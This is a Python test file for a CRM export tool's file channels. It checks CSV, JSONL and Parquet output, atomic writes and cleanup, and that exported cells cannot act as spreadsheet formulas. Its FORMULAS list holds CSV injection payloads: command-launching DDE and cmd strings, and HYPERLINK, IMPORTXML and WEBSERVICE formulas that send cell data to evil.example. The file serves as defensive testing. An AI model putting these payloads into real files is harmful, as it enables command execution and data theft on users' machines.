"""Files of messages: whole or not at all, each message in one of them, harmless to spreadsheets."""

from __future__ import annotations

import csv
import json
from dataclasses import replace
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from predseg.activation.channels import open_channel
from predseg.activation.claims import Message
from predseg.activation.sending import Later, World
from predseg.language.channels import Dry, Folder
from predseg.store import write_file
from tests.activation.test_web import MESSAGE

COLUMNS = ["action_id", "segment", "customer_id", "change", "at", "definition", "n", "variant"]


def some(*customers: str) -> list[Message]:
    return [replace(MESSAGE, action_id=f"act_{i}", customer_id=c, channel="crm", batch="crm-20260302T120000Z-x") for i, c in enumerate(customers)]


def written(folder: Path, format_: str, *customers: str) -> Path:
    noted: list[Path] = []
    world = World({}, folder, lambda: 0, writing=noted.append)
    remark = open_channel(Folder("crm", "out", format_), world).send(some(*customers))
    path = folder / "out" / f"crm-20260302T120000Z-x.{format_}"
    assert remark == path.name and noted == [path] and [p.name for p in path.parent.iterdir()] == [path.name], "nothing half-written beside it"
    return path


def test_a_csv_file(tmp_path: Path) -> None:
    with written(tmp_path, "csv", "ann", "bob").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == COLUMNS and [r["customer_id"] for r in rows] == ["ann", "bob"]
    assert rows[0] == {
        "action_id": "act_0",
        "segment": "cart",
        "customer_id": "ann",
        "change": "entered",
        "at": "2026-03-02T12:00:00Z",
        "definition": "4f2a",
        "n": "1",
        "variant": "",
    }


def test_a_jsonl_file(tmp_path: Path) -> None:
    rows = [json.loads(line) for line in written(tmp_path, "jsonl", "ann", "=1+1").read_text().splitlines()]
    assert [r["customer_id"] for r in rows] == ["ann", "=1+1"] and rows[0]["variant"] is None and list(rows[0]) == COLUMNS


def test_a_parquet_file(tmp_path: Path) -> None:
    table = pq.ParquetFile(written(tmp_path, "parquet", "ann")).read()
    assert table.column_names == COLUMNS and table.num_rows == 1 and table.schema.field("n").type == pa.int64()


def test_a_file_that_is_discarded_is_gone(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", "ann")
    channel = open_channel(Folder("crm", "out"), World({}, tmp_path, lambda: 0))
    (path.parent / f".{path.name}.77-ab12.part").write_text("half of it")
    (path.parent / "other.csv").write_text("not ours")
    channel.discard(path.stem)
    channel.discard(path.stem)
    assert [p.name for p in path.parent.iterdir()] == ["other.csv"]


def test_a_folder_that_cannot_be_written_is_a_failed_attempt(tmp_path: Path) -> None:
    (tmp_path / "out").write_text("a file")
    with pytest.raises(Later, match="cannot write") as caught:
        open_channel(Folder("crm", "out"), World({}, tmp_path, lambda: 0)).send(some("ann"))
    assert caught.value.busy


def test_a_dry_channel_says_so(tmp_path: Path) -> None:
    assert open_channel(Dry("trial"), World({}, tmp_path, lambda: 0)).send([MESSAGE]) == "dry"


# formulas

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("https://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=1+1";=1+1',
    "=1+1,=1+1",
    *(
        f"{before}=1+1"
        for before in (" ", "   ", "\t", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x00", "\u00a0", "\u2003", "\ufeff", "\u200b", "\u2060", "\x7f")
    ),
    *(f"{sign}1+1" for sign in "＝＋－＠"),
    "+A1",
    "-A1",
    "--1",
    "+-1",
    *"=@+-",
    "-1e5x",
    "+1;=1",
    "-.",
    "-1 2",
    "-1,5",
]
PLAIN = ["0", "12", "1e5", "a=b", "a-b", "ann@example.com", "", " ", "'quoted", "a\nb", "−5"]
TRIGGERS = "=+-@＝＋－＠"


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: what is left of it after white space and signs nobody sees begins with a trigger."""
    bare = cell.lstrip(" \t\r\n\x0b\x0c\x00\x7f\u00a0\u2003\ufeff\u200b\u2060")
    return bare[:1] != "" and bare[0] in TRIGGERS


def test_no_cell_is_a_formula(tmp_path: Path) -> None:
    texts = [*FORMULAS, *PLAIN]
    table = pa.table({"=evil": pa.array(texts), "text": pa.array([f"{t}" for t in texts]), "number": pa.array([-i * 1.5 for i in range(len(texts))])})
    with write_file(tmp_path / "x.csv", table).open(newline="", encoding="utf-8") as file:
        header, *rows = list(csv.reader(file))
    assert len(rows) == len(texts) and not [h for h in header if dangerous(h)]
    assert not [cell for row in rows for cell in row[:2] if dangerous(cell)]
    assert [float(row[2]) for row in rows] == [-i * 1.5 for i in range(len(texts))], "numbers are unchanged"


def test_what_is_no_formula_is_unchanged(tmp_path: Path) -> None:
    with write_file(tmp_path / "x.csv", pa.table({"t": PLAIN})).open(newline="", encoding="utf-8") as file:
        assert [row[0] if row else "" for row in list(csv.reader(file))[1:]] == PLAIN


def test_the_check_finds_formulas() -> None:
    assert sum(map(dangerous, FORMULAS)) > 30 and not [t for t in PLAIN if dangerous(t)]


def test_a_home_that_nobody_has_is_a_name_like_any_other(tmp_path: Path) -> None:
    world = World({}, tmp_path, lambda: 0)
    open_channel(Folder("crm", "~nobody-of-that-name/out"), world).send(some("ann"))
    assert [file.suffix for file in (tmp_path / "~nobody-of-that-name" / "out").iterdir()] == [".csv"]
